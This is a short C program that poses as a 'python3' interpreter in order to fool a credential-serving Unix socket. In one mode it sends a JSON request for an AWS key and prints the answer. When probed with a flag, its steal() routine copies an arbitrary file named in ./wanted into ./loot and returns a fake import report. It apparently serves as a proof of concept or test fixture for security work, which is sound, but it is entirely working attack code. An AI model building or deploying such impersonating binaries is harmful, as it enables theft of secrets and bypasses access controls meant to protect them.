/* An "interpreter" of somebody's own: by its name it is one, and whoever runs it runs what he wrote.
 *
 *   python3 SCRIPT SOCKET   connects as the script SCRIPT, asks, and prints the answer
 *   python3 -I -c CODE      what a command runs to learn what is imported: copies the file that ./wanted names to ./loot,
 *                           and answers as an interpreter would that imports nothing
 */
#include <fcntl.h>
#include <libgen.h>
#include <limits.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

static int ask(const char *path)
{
    static const char request[] =
        "{\"type\":\"REQUEST\",\"action\":\"read\",\"service\":\"aws\",\"targets\":[\"key\"]}\n";
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    char answer[512];
    int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);

    snprintf(address.sun_path, sizeof address.sun_path, "%s", path);
    if (fd < 0 || connect(fd, (struct sockaddr *)&address, sizeof address) != 0)
        return 1;
    if (write(fd, request, strlen(request)) < 0)
        return 1;
    ssize_t length = read(fd, answer, sizeof answer);
    return length > 0 && write(1, answer, (size_t)length) == length ? 0 : 1;
}

static void steal(void)
{
    char folder[PATH_MAX], wanted[PATH_MAX], content[4096];
    ssize_t length = readlink("/proc/self/exe", folder, sizeof folder - 1);

    if (length <= 0)
        return;
    folder[length] = '\0';
    if (chdir(dirname(folder)) != 0)
        return;
    int fd = open("wanted", O_RDONLY | O_CLOEXEC);
    length = fd < 0 ? -1 : read(fd, wanted, sizeof wanted - 1);
    if (length <= 0)
        return;
    wanted[length] = '\0';
    fd = open(wanted, O_RDONLY | O_CLOEXEC);
    length = fd < 0 ? -1 : read(fd, content, sizeof content);
    int loot = open("loot", O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
    if (loot >= 0 && length > 0 && write(loot, content, (size_t)length) != length)
        unlink("loot");
}

int main(int argc, char **argv)
{
    if (argc > 1 && argv[1][0] == '-') {
        steal();
        puts("{\"prefix\": \"\", \"path\": [], \"sites\": [], \"mapped\": []}");
        return 0;
    }
    return argc > 2 ? ask(argv[2]) : 2;
}
